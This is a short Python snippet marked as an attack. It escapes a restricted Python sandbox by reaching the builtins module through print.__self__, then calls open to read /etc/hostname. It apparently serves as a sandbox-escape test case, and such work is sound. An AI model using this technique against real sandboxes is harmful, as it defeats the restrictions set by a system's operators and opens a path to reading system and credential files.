# attack: reach the builtins module through print's __self__
real = print.__self__
print(real.open("/etc/hostname").read())
